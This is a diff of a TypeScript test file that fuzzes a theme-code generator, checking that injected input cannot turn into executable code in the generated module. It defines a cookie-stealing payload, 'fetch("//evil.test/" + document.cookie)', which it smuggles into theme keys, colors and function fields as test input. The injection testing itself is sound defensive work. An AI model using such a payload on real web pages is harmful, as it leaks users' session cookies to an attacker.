@@ -1,9 +1,18 @@
 import { parse } from '@babel/parser';
 import type * as Ast from '@babel/types';
 import fc from 'fast-check';
-import { HELPER_NAMES, THEME_FUNCTIONS, themeModule, withTheme, type Json } from './index';
+import {
+  checkDocument,
+  NO_THEME,
+  openTheme,
+  readTheme,
+  themeFiles,
+  themeModule,
+  type Json,
+  type ThemeDocument,
+} from './index';
 
-const ALLOWED_STATEMENTS = ['ImportDeclaration', 'ExportNamedDeclaration', 'TSModuleDeclaration'];
+jest.setTimeout(60_000);
 
 const isNode = (value: unknown): value is Ast.Node =>
   typeof value === 'object' && value !== null && 'type' in value && 'loc' in value;
@@ -13,129 +22,121 @@ function nodesIn(node: Ast.Node): readonly Ast.Node[] {
   return [node, ...children.filter(isNode).flatMap(nodesIn)];
 }
 
-const nameOf = (node: Ast.Node) =>
-  node.type === 'Identifier'
-    ? node.name
-    : node.type === 'MemberExpression' && node.property.type === 'Identifier' && !node.computed
-      ? node.property.name
-      : '';
+const DATA =
+  /^(?:Import|ExportNamed|TS|VariableDecl|Identifier|ObjectE|ObjectP|ArrayE|StringL|NumericL|BooleanL|NullL|UnaryE|Program|CallE)/;
 
-const statementsOf = (code: string) =>
-  parse(code, { sourceType: 'module', plugins: ['typescript', 'jsx'] }).program.body;
-
-/** What a module would do besides creating the theme. */
+/** What a module would do besides creating the theme from data. */
 function foreignCode(code: string): readonly string[] {
   const { program } = parse(code, { sourceType: 'module', plugins: ['typescript'] });
-  const calls = ['createTheme', 'createReaderTheme', ...HELPER_NAMES, ...THEME_FUNCTIONS];
-  const found = nodesIn(program).flatMap((node) => {
-    switch (node.type) {
-      case 'CallExpression':
-        return calls.includes(nameOf(node.callee)) ? [] : [`a call of ${nameOf(node.callee)}`];
-      case 'NewExpression':
-      case 'TaggedTemplateExpression':
-      case 'AssignmentExpression':
-      case 'UpdateExpression':
-      case 'SequenceExpression':
-      case 'ImportExpression':
-      case 'ObjectMethod':
-      case 'AssignmentPattern':
-        return [node.type];
-      case 'ArrowFunctionExpression': {
-        const own = node.params.flatMap((parameter) =>
-          parameter.type === 'ObjectPattern'
-            ? parameter.properties.map((property) =>
-                property.type === 'ObjectProperty' ? nameOf(property.value) : '?',
-              )
-            : [nameOf(parameter)],
-        );
-        const known = [...own, ...HELPER_NAMES];
-        return nodesIn(node.body)
-          .filter((part) => part.type === 'MemberExpression' || part.type === 'CallExpression')
-          .map((part) => (part.type === 'MemberExpression' ? part.object : part.callee))
-          .filter((part) => part.type === 'Identifier' && !known.includes(part.name))
-          .map((part) => `the name ${nameOf(part)}`);
-      }
-      default:
-        return [];
-    }
-  });
-  const statements = program.body.filter(({ type }) => !ALLOWED_STATEMENTS.includes(type));
-  return [...found, ...statements.map(({ type }) => type)];
+  return nodesIn(program).flatMap((node) =>
+    node.type === 'CallExpression'
+      ? node.callee.type === 'Identifier' && node.callee.name === 'createTheme'
+        ? []
+        : ['a call']
+      : DATA.test(node.type)
+        ? []
+        : [node.type],
+  );
 }
 
-const buttonOf = (root: Json) => ({ components: { MuiButton: { styleOverrides: { root } } } });
-const fn = (parameters: Json, body: Json) => buttonOf({ $fn: [parameters, body] });
 const PAYLOAD = 'fetch("//evil.test/" + document.cookie)';
+const buttonOf = (root: Json) => ({ components: { MuiButton: { styleOverrides: { root } } } });
 
-it.each<[string, Parameters<typeof themeModule>[0]]>([
-  ['a callee', fn([], ['call', `${PAYLOAD}, x`, 1])],
-  ['a name', fn([], ['name', PAYLOAD])],
-  ['a global name', fn([], ['get', ['name', 'document'], 'cookie'])],
-  ['an operator', fn([], [`+ ${PAYLOAD} +`, 1, 2])],
-  ['a parameter', fn([`a = ${PAYLOAD}`], 1)],
-  ['a property of a parameter', fn([[[`a = ${PAYLOAD}`, 'b']]], 1)],
-  ['a name of a pattern', fn([[['a', `b = ${PAYLOAD}`]]], 1)],
-  ['parameters that end', fn([`a) => 0, [${PAYLOAD}]: (b`], 1)],
-  ['the kind of an entry', fn([], ['object', [`[${PAYLOAD}]: 1, x`, 'a', 1]])],
-  ['a method of a variable', fn([], ['call', ['get', ['name', 'window'], 'create'], 1])],
-  ['a callee of a call', fn(['a'], ['call', ['call', 'alpha', 1], 1])],
-  ['a template', fn([], ['text', `\${${PAYLOAD}}`, '`'])],
+it.each<[string, ThemeDocument]>([
   ['a text', buttonOf({ color: `'+${PAYLOAD}+'` })],
   ['a text with a line end', buttonOf({ color: `\r\n\u2028'+${PAYLOAD}+'` })],
   ['a key', buttonOf({ [`a: ${PAYLOAD}, b`]: 1 })],
+  ['a function', buttonOf({ $fn: 0 })],
+  ['a function of version 1', buttonOf({ $fn: [[`a = ${PAYLOAD}`], ['name', PAYLOAD]] })],
   [
     'a color',
     { palette: { [`x: string } } ${PAYLOAD} declare module 'a' { interface B { y`]: '#fff' } },
   ],
 ])('writes no code that comes in %s', (_what, document) => {
-  const code = themeModule(document);
-  expect(foreignCode(code)).toEqual([]);
-  const demo = 'export default function Demo() {\n  return null;\n}\n';
-  const copied = String(withTheme(demo, code));
-  expect(statementsOf(copied)).toHaveLength(statementsOf(code).length + 2);
+  expect(foreignCode(themeModule(document))).toEqual([]);
 });
 
-it('writes only expressions, whatever the data is', () => {
-  const text = fc.oneof(
-    fc.string(),
-    fc.constantFrom(
-      ...['get', 'name', 'call', 'object', 'property', 'spread', 'text', 'theme', '+', '?', '!'],
-      ...[PAYLOAD, "'", '`', '${', '\\', '\n', '\r', '\u2028', '*/', '__proto__', 'constructor'],
-      ...['breakpoints', 'up', 'alpha', 'negative', 'array', '&:hover', '(', ')', '=>'],
-    ),
-  );
-  const { expression } = fc.letrec<{ expression: Json }>((tie) => ({
-    expression: fc.oneof(
-      { depthSize: 'medium', withCrossShrink: true },
-      text,
-      fc.constantFrom<Json>(-1, 0.5, true, null, ['name', 'theme']),
-      fc.tuple(text, tie('expression'), tie('expression')),
-      fc.tuple(fc.constantFrom('text', '!', 'negative', 'array', 'get'), tie('expression')),
-      fc.tuple(
-        fc.constant('object'),
-        fc.tuple(fc.constantFrom('property', 'spread'), text, tie('expression')),
-      ),
-      fc.tuple(
-        fc.constantFrom('call', 'get'),
-        fc.tuple(fc.constant('get'), tie('expression'), text),
-        tie('expression'),
-      ),
-      fc.dictionary(text, tie('expression'), { maxKeys: 3 }),
-    ),
-  }));
-  const parameters = fc.oneof(
-    fc.constant<Json>(['theme']),
-    fc.array(fc.oneof(text, fc.array(fc.tuple(text, text), { maxLength: 2 })), { maxLength: 2 }),
-  ) as fc.Arbitrary<Json>;
+const text = fc.oneof(
+  fc.string(),
+  fc.constantFrom(
+    ...[PAYLOAD, "'", '`', '${', '\\', '\n', '\r', '\u2028', '*/', '__proto__', 'constructor'],
+    ...['$fn', '$missing', 'light', 'spacing', 'palette', '&:hover', '(', ')', '=>'],
+  ),
+);
+const { value } = fc.letrec<{ value: Json }>((tie) => ({
+  value: fc.oneof(
+    { depthSize: 'small', withCrossShrink: true },
+    text,
+    fc.constantFrom<Json>(-1, 0.5, true, null),
+    fc.array(tie('value'), { maxLength: 3 }),
+    fc.dictionary(text, tie('value'), { maxKeys: 3 }),
+  ),
+}));
+
+it('writes only data, whatever the data is', () => {
   fc.assert(
-    fc.property(parameters, expression, text, (names, body, key) => {
+    fc.property(value, text, (data, key) => {
       const code = themeModule({
-        ...fn(names, body),
+        ...buttonOf(data),
         palette: { [key]: '#fff' },
-        typography: { [key]: body },
+        typography: { [key]: data },
       });
       expect(foreignCode(code)).toEqual([]);
     }),
-    { numRuns: 1000 },
+    { numRuns: 500 },
+  );
+});
+
+it('writes an entry of a stored theme only if it reads a theme', () => {
+  fc.assert(
+    fc.property(text, text, (name, access) => {
+      const stored = JSON.stringify({
+        version: 2,
+        files: [{ name: 'theme.ts', code: '' }],
+        entry: { file: 'theme.ts', import: name, light: access, dark: access },
+      });
+      const { entry } = readTheme(stored);
+      expect(
+        entry === null || !/[;\n`"+=]|=>|fetch\(/.test(JSON.stringify(entry.light).slice(1, -1)),
+      ).toBe(true);
+    }),
+    { numRuns: 500 },
+  );
+});
+
+/** Options as applications write them. */
+const options = fc.record(
+  {
+    spacing: fc.integer({ min: 1, max: 20 }),
+    shape: fc.record({ borderRadius: fc.integer({ min: 0, max: 40 }) }),
+    palette: fc.record({
+      mode: fc.constantFrom('light', 'dark'),
+      primary: fc.record({ main: fc.constantFrom('#123456', 'rgb(1, 2, 3)', 'hsl(10, 80%, 40%)') }),
+    }),
+    typography: fc.record({
+      fontFamily: fc.constantFrom('Inter, sans-serif', '"Source Sans 3"', "O'Neil"),
+      h1: fc.record({ fontSize: fc.integer({ min: 10, max: 90 }) }),
+    }),
+    components: fc.record({
+      MuiButton: fc.record({
+        defaultProps: fc.record({ disableElevation: fc.boolean() }),
+        styleOverrides: fc.record({ root: fc.record({ borderRadius: fc.nat(30) }) }),
+      }),
+    }),
+  },
+  { requiredKeys: [] },
+);
+
+it('is the same theme when its module runs', async () => {
+  await fc.assert(
+    fc.asyncProperty(options, async (given) => {
+      const { document } = checkDocument(given);
+      const code = themeModule(document);
+      const first = await openTheme({ ...NO_THEME, files: [{ name: 'theme.ts', code }] });
+      expect(first.errors).toEqual([]);
+      expect(first.document).toEqual(document);
+      expect(themeFiles(first)['yourTheme/theme.ts']).toBe(code);
+    }),
+    { numRuns: 15 },
   );
 });
